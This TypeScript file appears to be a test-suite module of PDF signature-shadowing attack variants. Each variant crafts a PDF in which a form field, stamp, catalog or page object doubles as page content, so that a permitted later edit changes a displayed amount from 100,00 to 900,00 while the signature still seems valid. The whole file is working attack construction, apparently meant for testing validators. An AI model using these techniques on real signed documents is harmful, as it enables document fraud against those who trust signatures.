import { at, contract, handMade, sign } from './bases.ts';
import type { HandMade } from './bases.ts';
import { family } from './variant.ts';
import type { AttackContext, Variant } from './variant.ts';
import { edit, revise, streamText, withEntries } from './write-revision.ts';

const own = contract();
const page = own[at.page] ?? '';
const resources = own[at.resources] ?? '';
const form = own[at.form] ?? '';
const picture = (text: string): string =>
  streamText(`BT /F1 24 Tf 60 600 Td (${text}) Tj ET`, '/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources 7 0 R');
const honest = picture('Valor: 100,00');
const evil = picture('Valor: 900,00');
const field = (entries: string): string => `<</Type/Annot/Subtype/Widget/FT/Tx/T(escondida)/F 2/P 3 0 R/Rect[60 300 200 340]${entries}>>`;
const signatureField = (entries: string): string => field(entries).replace('/FT/Tx', '/FT/Sig');

type Objects = Readonly<Record<number, string>>;

function trap(world: AttackContext['world'], objects: Objects): Promise<Uint8Array> {
  const base: HandMade['objects'] = {
    [at.form]: form.replace('/Fields[', '/Fields[50 0 R '),
    [at.page]: page.replace('/Annots[', '/Annots[50 0 R '),
    [at.content]: streamText('BT /F1 24 Tf 60 700 Td (Valor: 100,00) Tj ET /X1 Do /N Do'),
    ...objects,
  };
  return handMade(world, { objects: base });
}

/** A file prepared so that something has two roles, and the field filled so that its other role changes. */
function filled(objects: Objects, update: Objects, fill = '/V(x)'): Variant['make'] {
  return async ({ world }) => {
    const base = await trap(world, objects);
    return edit(base, 50, (text) => withEntries(text, fill), { objects: update });
  };
}

const withXObjects = (entry: string): string => resources.replace('/XObject<</X1 10 0 R>>', `/XObject ${entry}`);

/** Objects with two roles: what a field may change is something else to the page. */
export const shared = family('SHARED', {
  'look-dictionary-is-the-pages': [
    "the page's pictures are the field's appearance dictionary: its stream is written over",
    filled({ 50: field('/AP 51 0 R'), 51: '<</N 52 0 R>>', 52: honest, [at.resources]: withXObjects('51 0 R') }, { 52: evil }),
  ],
  'look-dictionary-is-the-pages-and-changes': [
    'the same, and the dictionary names another stream',
    filled(
      { 50: field('/AP 51 0 R'), 51: '<</N 52 0 R>>', 52: honest, [at.resources]: withXObjects('51 0 R') },
      { 51: '<</N 60 0 R>>', 60: evil },
    ),
  ],
  'look-states-are-the-pages': [
    "the page's pictures are the states of the field's look",
    filled({ 50: field('/AP<</N 51 0 R>>/AS/N'), 51: '<</N 52 0 R>>', 52: honest, [at.resources]: withXObjects('51 0 R') }, { 52: evil }),
  ],
  'look-is-a-stamp': [
    'the look of an empty field is the look of a note too',
    filled(
      {
        50: field('/AP<</N 52 0 R>>'),
        52: honest,
        53: '<</Type/Annot/Subtype/Stamp/F 4/Rect[60 500 400 560]/AP<</N 52 0 R>>>>',
        [at.page]: page.replace('/Annots[', '/Annots[50 0 R 53 0 R '),
      },
      { 52: evil },
    ),
  ],
  'look-dictionary-of-a-stamp': [
    'the appearance dictionary of an empty field is that of a note too',
    filled(
      {
        50: field('/AP 51 0 R'),
        51: '<</N 52 0 R>>',
        52: honest,
        53: '<</Type/Annot/Subtype/Stamp/F 4/Rect[60 500 400 560]/AP 51 0 R>>',
        [at.page]: page.replace('/Annots[', '/Annots[50 0 R 53 0 R '),
      },
      { 51: '<</N 60 0 R>>', 60: evil },
    ),
  ],
  'look-of-two-fields': [
    'the look of an empty field is that of a read-only one',
    filled({ 50: field('/AP<</N 52 0 R>>'), 52: honest, [at.fixed]: (own[at.fixed] ?? '').replace('25 0 R', '52 0 R') }, { 52: evil }),
  ],
  'look-in-the-resources-of-another': [
    'the look of an empty field is a picture of another look',
    filled(
      {
        50: field('/AP<</N 52 0 R>>'),
        52: honest,
        [at.fixedLook]: streamText('/A Do', '/Type/XObject/Subtype/Form/BBox[0 0 150 40]/Resources<</XObject<</A 52 0 R>>>>'),
      },
      { 52: evil },
    ),
  ],
  'look-of-a-signature-field': [
    'the same with a signature field, signed by an honest signer elsewhere in that revision',
    async ({ world }) => {
      const base = await trap(world, {
        50: signatureField('/AP 51 0 R'),
        51: '<</N 52 0 R>>',
        52: honest,
        [at.resources]: withXObjects('51 0 R'),
      });
      return sign(revise(base, { objects: { 52: evil } }), world, 'rui');
    },
  ],
  'look-in-the-trailer': [
    'the appearance dictionary is the root of the trailer’s information too',
    filled({ 50: field('/AP 51 0 R'), 51: '<</N 52 0 R>>', 52: honest, [at.resources]: withXObjects('<</N 52 0 R>>') }, { 52: evil }),
  ],
  'field-is-the-pages-pictures': [
    "the page's pictures are the field itself: its value is a stream",
    filled(
      { 50: field('/N 52 0 R'), 52: honest, [at.resources]: withXObjects('50 0 R'), [at.content]: streamText('/V Do /N Do') },
      { 60: evil },
      '/V 60 0 R',
    ),
  ],
  'field-is-a-graphics-state-list': [
    "the page's graphics states are the field itself: its border style says how transparent",
    filled(
      {
        50: signatureField(''),
        [at.resources]: resources.replace('/XObject', '/ExtGState 50 0 R/XObject'),
        [at.content]: streamText('/MK gs 0 0 100 100 re f'),
      },
      {},
      '/MK<</ca 0>>',
    ),
  ],
  'field-is-a-list-of-looks': [
    'another field’s states of look are this field: its value is a stream',
    filled(
      { 50: field(''), [at.fixed]: (own[at.fixed] ?? '').replace('25 0 R', '50 0 R').replace('/F 4', '/F 4/AS/V') },
      { 60: evil },
      '/V 60 0 R',
    ),
  ],
  'field-is-a-fonts-glyphs': [
    'a font whose glyphs are the field',
    filled(
      {
        50: field(''),
        [at.font]:
          '<</Type/Font/Subtype/Type3/FontBBox[0 0 1 1]/FontMatrix[1 0 0 1 0 0]/CharProcs 50 0 R/Encoding<</Differences[65/V]>>/FirstChar 65/LastChar 65/Widths[1]>>',
      },
      { 60: streamText('1 0 d0') },
      '/V 60 0 R',
    ),
  ],
  'form-is-a-graphics-state-list': [
    "the page's graphics states are the form: its resources grow by how transparent something is",
    async ({ world }) => {
      const base = await handMade(world, {
        objects: {
          [at.resources]: resources.replace('/XObject', `/ExtGState ${at.form} 0 R/XObject`),
          [at.content]: streamText('/DR gs 0 0 100 100 re f'),
        },
      });
      return edit(base, at.form, (text) => text.replace('/DR<<', '/DR<</ca 0'));
    },
  ],
  'catalog-is-the-pages-pictures': [
    "the page's pictures are the catalog: its metadata are painted",
    async ({ world }) => {
      const base = await handMade(world, { objects: { [at.resources]: withXObjects('1 0 R'), [at.content]: streamText('/Metadata Do') } });
      return edit(base, at.catalog, (text) => text.replace('/Metadata 8 0 R', '/Metadata 60 0 R'), {
        // Metadata to whoever looks for them: their name stands in a comment of the picture.
        objects: {
          60: streamText(
            '%<x:xmpmeta/>\nBT /F1 24 Tf 60 600 Td (Valor: 900,00) Tj ET',
            '/Type/Metadata/Subtype/Form/BBox[0 0 595 842]/Resources 7 0 R',
          ),
        },
      });
    },
  ],
  'catalog-is-a-graphics-state-list': [
    "the page's graphics states are the catalog: its DSS says how transparent",
    async ({ world }) => {
      const base = await handMade(world, {
        objects: {
          [at.resources]: resources.replace('/XObject', '/ExtGState 1 0 R/XObject'),
          [at.content]: streamText('/DSS gs 0 0 100 100 re f'),
        },
      });
      return edit(base, at.catalog, (text) => withEntries(text, '/DSS<</ca 0>>'));
    },
  ],
  'page-is-the-pages-pictures': [
    "the page's pictures are the page itself: the date of its last change is a stream",
    async ({ world }) => {
      const base = await handMade(world, {
        objects: { [at.resources]: withXObjects('3 0 R'), [at.content]: streamText('/LastModified Do') },
      });
      return edit(base, at.page, (text) => withEntries(text, '/LastModified 60 0 R'), { objects: { 60: evil } });
    },
  ],
});
